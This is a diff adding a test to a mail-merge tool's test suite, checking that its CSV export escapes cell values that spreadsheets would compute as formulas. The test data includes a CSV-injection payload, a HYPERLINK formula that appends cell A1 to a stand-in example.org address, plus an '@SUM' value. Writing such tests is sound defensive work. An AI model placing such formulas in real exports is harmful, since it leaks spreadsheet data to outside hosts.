@@ -136,6 +136,16 @@ def test_links_for_a_mail_merge(portal: PortalFolder) -> None:
     assert all(row[5].startswith("https://notices.example.com/my/#") for row in rows[1:])
 
 
+def test_a_name_in_the_table_is_no_formula(portal: PortalFolder) -> None:
+    """A spreadsheet would compute what begins like one; an address stays as mail needs it."""
+    client = """name: '=HYPERLINK("https://example.org/?" & A1)'"""
+    portal.client("sum", f'{client}\ncontacts: [{{id: su, name: "@SUM(1)", email: =su@sum.example.com}}]\n')
+    printed = build(portal, "link", "sum", "--csv")
+    assert printed.returncode == 0, printed.stderr
+    _, row = csv.reader(io.StringIO(printed.stdout.removeprefix("\ufeff")))
+    assert row[1:4] == ['\'=HYPERLINK("https://example.org/?" & A1)', "'@SUM(1)", "=su@sum.example.com"]
+
+
 def test_a_link_as_a_qr_code(portal: PortalFolder) -> None:
     """--qr draws it for a phone, below the address."""
     plain, drawn = (build(portal, "link", "yunshan/lin", *more).stdout for more in ((), ("--qr",)))
